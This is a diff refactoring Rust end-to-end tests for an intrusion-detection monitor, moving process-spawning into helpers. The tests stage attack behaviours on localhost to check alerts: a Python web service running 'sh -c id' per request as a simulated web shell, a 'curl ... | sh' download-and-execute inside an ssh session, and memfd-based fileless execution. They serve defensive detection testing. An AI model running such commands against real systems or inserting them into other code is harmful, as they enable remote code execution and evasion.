@@ -4,9 +4,9 @@
 //! user name in auth.log, refused sudo in a burst. Each asserts the alert, its rule id, its
 //! MITRE ATT&CK technique, its severity and, where there is one, its session.
 use std::{
-    io::{BufRead, BufReader, Read, Write},
+    io::{Read, Write},
     net::TcpStream,
-    process::{Command, Stdio},
+    process::Command,
     time::Duration,
 };
 
@@ -63,28 +63,19 @@ fn a_web_service_starting_a_shell_is_a_web_shell() {
     let m = monitor(fx, &state);
     let mk = marker("webshell");
     // a web application that runs a shell command for each request
-    let mut server = Command::new("/usr/bin/python3")
-        .args([
-            "-c",
-            "import http.server,socketserver,subprocess\n\
-             class H(http.server.BaseHTTPRequestHandler):\n\
-             \x20def do_GET(self):\n\
-             \x20 out=subprocess.run(['sh','-c','id'],capture_output=True).stdout\n\
-             \x20 self.send_response(200); self.end_headers(); self.wfile.write(out)\n\
-             \x20def log_message(self,*a): pass\n\
-             s=socketserver.TCPServer(('127.0.0.1',0),H)\n\
-             print(s.server_address[1],flush=True); s.handle_request()",
-            &mk,
-        ])
-        .stdout(Stdio::piped())
-        .spawn()
-        .unwrap();
-    let mut port = String::new();
-    BufReader::new(server.stdout.take().unwrap())
-        .read_line(&mut port)
-        .unwrap();
-    let server = KillOnDrop(server);
-    let mut c = TcpStream::connect(("127.0.0.1", port.trim().parse::<u16>().unwrap())).unwrap();
+    let (server, port) = monitor_e2e::spawn_reporting(Command::new("/usr/bin/python3").args([
+        "-c",
+        "import http.server,socketserver,subprocess\n\
+         class H(http.server.BaseHTTPRequestHandler):\n\
+         \x20def do_GET(self):\n\
+         \x20 out=subprocess.run(['sh','-c','id'],capture_output=True).stdout\n\
+         \x20 self.send_response(200); self.end_headers(); self.wfile.write(out)\n\
+         \x20def log_message(self,*a): pass\n\
+         s=socketserver.TCPServer(('127.0.0.1',0),H)\n\
+         print(s.server_address[1],flush=True); s.handle_request()",
+        &mk,
+    ]));
+    let mut c = TcpStream::connect(("127.0.0.1", port.parse::<u16>().unwrap())).unwrap();
     c.write_all(b"GET / HTTP/1.0\r\n\r\n").unwrap();
     let mut body = String::new();
     let _ = c.read_to_string(&mut body);
@@ -127,32 +118,26 @@ fn curl_piped_into_a_shell_is_download_and_execute() {
     let dir = std::env::temp_dir().join(marker("www"));
     std::fs::create_dir_all(&dir).unwrap();
     std::fs::write(dir.join("install.sh"), "true\n").unwrap();
-    let mut web = Command::new("/usr/bin/python3")
-        .args([
-            "-u",
-            "-c",
-            "import http.server,socketserver\n\
-             class H(http.server.SimpleHTTPRequestHandler):\n\
-             \x20def log_message(self,*a): pass\n\
-             s=socketserver.TCPServer(('127.0.0.1',0),H)\n\
-             print(s.server_address[1],flush=True); s.serve_forever()",
-        ])
-        .current_dir(&dir)
-        .stdout(Stdio::piped())
-        .spawn()
-        .unwrap();
-    let mut port = String::new();
-    BufReader::new(web.stdout.take().unwrap())
-        .read_line(&mut port)
-        .unwrap();
-    let _web = KillOnDrop(web);
+    let (_web, port) = monitor_e2e::spawn_reporting(
+        Command::new("/usr/bin/python3")
+            .args([
+                "-u",
+                "-c",
+                "import http.server,socketserver\n\
+                 class H(http.server.SimpleHTTPRequestHandler):\n\
+                 \x20def log_message(self,*a): pass\n\
+                 s=socketserver.TCPServer(('127.0.0.1',0),H)\n\
+                 print(s.server_address[1],flush=True); s.serve_forever()",
+            ])
+            .current_dir(&dir),
+    );
     let m = monitor(fx, &state);
     let mk = marker("curlsh");
     // inside an ssh session, as an intruder would
     let out = fx.ssh_key(
         &format!(
             "bash -c 'curl -fsS http://127.0.0.1:{}/install.sh | sh' {mk}",
-            port.trim()
+            port
         ),
         &[],
     );
@@ -298,19 +283,9 @@ fn a_fileless_program_and_one_whose_file_was_deleted_are_raised() {
     monitor_e2e::copy_executable("/bin/true", &gone);
     let m = monitor(fx, &state);
     let (fileless, deleted) = (marker("memfd"), marker("deleted"));
-    // detached (`setsid -f`), away from `cargo test`, under which they would only be low
-    let script = "import os,sys\n\
-                  def run(fd, name, mk):\n\
-                  \x20   pid=os.fork()\n\
-                  \x20   if pid==0: os.execve(fd, [name, mk], {})\n\
-                  \x20   os.waitpid(pid,0)\n\
-                  fd=os.memfd_create('payload')\n\
-                  os.write(fd, open('/bin/true','rb').read())\n\
-                  run(fd, 'payload', sys.argv[1])\n\
-                  fd=os.open(sys.argv[3], os.O_RDONLY); os.unlink(sys.argv[3])\n\
-                  run(fd, 'gone', sys.argv[2])\n";
-    let status = Command::new("setsid")
-        .args(["-f", "/usr/bin/python3", "-c", script, &fileless, &deleted])
+    // detached, away from `cargo test`, under which they would only be low
+    let script = monitor_e2e::FILELESS_AND_DELETED;
+    let status = monitor_e2e::detached(&["/usr/bin/python3", "-c", script, &fileless, &deleted])
         .arg(&gone)
         .status()
         .unwrap();
